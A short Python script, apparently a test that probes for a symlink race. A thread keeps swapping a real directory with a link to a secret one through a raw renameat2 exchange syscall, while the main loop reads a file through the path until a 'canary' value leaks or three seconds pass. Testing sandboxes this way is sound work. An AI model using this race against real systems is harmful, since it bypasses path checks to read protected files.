# Swaps a directory and a link to a secret one, and reads through them meanwhile: until the
# secret is seen, or for three seconds.
import threading
import time
over, seen = [], set()
os.symlink(sys.argv[1], "link")


def swap():
    while not over:
        call(316, 276, -100, b"real", -100, b"link", 2)


thread = threading.Thread(target=swap)
thread.start()
end = time.monotonic() + 3
while "canary" not in seen and time.monotonic() < end:
    try:
        seen.add(open("real/file").read().strip())
    except OSError:
        pass
over.append(True)
thread.join()
print("seen", "canary" if "canary" in seen else "public")
